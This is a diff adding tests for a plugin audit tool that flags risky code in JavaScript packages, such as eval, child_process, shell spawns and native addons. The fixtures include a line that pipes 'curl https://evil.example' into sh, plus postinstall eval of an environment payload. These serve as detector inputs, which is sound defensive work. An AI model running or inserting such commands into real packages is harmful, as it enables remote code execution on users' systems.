@@ -119,6 +119,69 @@ describe("values that cross modules (link)", () => {
   })
 })
 
+describe("which files are code", () => {
+  test("scripts without an extension: run by a JavaScript shebang, named by bin or main, or required by a relative name", async () => {
+    await using dir = await tmpdir({
+      "package.json": pkg("plugin", { main: "lib/main", bin: { tool: "./bin/tool" } }),
+      "lib/main": 'module.exports = require("./impl")\n',
+      "lib/impl": 'require("child_process").execSync("curl -s https://evil.example | sh")\n',
+      "bin/tool": "console.log('named by bin')\neval(process.argv[2])\n",
+      "scripts/postinstall": "#!/usr/bin/env node\neval(process.env.PAYLOAD)\n",
+      "scripts/run": "#!/usr/bin/env -S bun run\nconst x: number = 1\nBun.spawn(['sh'])\n",
+      // Neither JavaScript nor named: never parsed.
+      "scripts/setup": '#!/bin/sh\neval "$X"\n',
+      LICENSE: "eval(is not code here)\n",
+    })
+    const report = await PluginAudit.run(dir.path)
+    expect(found(report)).toEqual([
+      "bin/tool:2:eval",
+      "scripts/postinstall:2:eval",
+      "lib/impl:1:child_process",
+      "scripts/run:3:bun-spawn",
+      "scripts/postinstall:2:process-env",
+    ])
+    expect(report.filesScanned).toBe(5)
+  })
+
+  test("native addons: a .node file loaded by name, and the packages that load one", async () => {
+    await using dir = await tmpdir({
+      "package.json": pkg("plugin"),
+      "index.js": [
+        'const addon = require("./build/Release/addon.node")',
+        'const other = require("bindings")("other")',
+        'import gyp from "node-gyp-build"',
+      ].join("\n"),
+    })
+    const report = await PluginAudit.run(dir.path)
+    expect(found(report)).toEqual(["index.js:1:native-code", "index.js:2:native-code", "index.js:3:native-code"])
+  })
+
+  test("the packages the code imports are named when they were not audited; ws and undici are network modules", async () => {
+    await using dir = await tmpdir({
+      "package.json": pkg("plugin"),
+      "index.js": [
+        'import axios from "axios"',
+        'import { execa } from "execa"',
+        'import fse from "fs-extra/esm"',
+        'import WebSocket from "ws"',
+        'import { request } from "undici"',
+        'import fs from "node:fs"',
+        'import "./local.js"',
+        // The package's own name: audited already.
+        'import self from "plugin/extra"',
+      ].join("\n"),
+      "local.js": "export {}\n",
+    })
+    const report = await PluginAudit.run(dir.path)
+    expect(report.unaudited).toEqual(["axios", "execa", "fs-extra"])
+    expect(found(report)).toContain("index.js:4:network")
+    expect(found(report)).toContain("index.js:5:network")
+    // With the flag the packages are looked up (here: not installed, so listed as missing) and the list is absent.
+    const deps = await PluginAudit.run(dir.path, { includeDependencies: true })
+    expect(deps.unaudited).toBeUndefined()
+  })
+})
+
 describe("--include-dependencies: Node's resolution from the plugin's folder upward", () => {
   test("hoisted dependencies (installed beside the plugin) are audited; without the flag they are not", async () => {
     await using dir = await tmpdir({
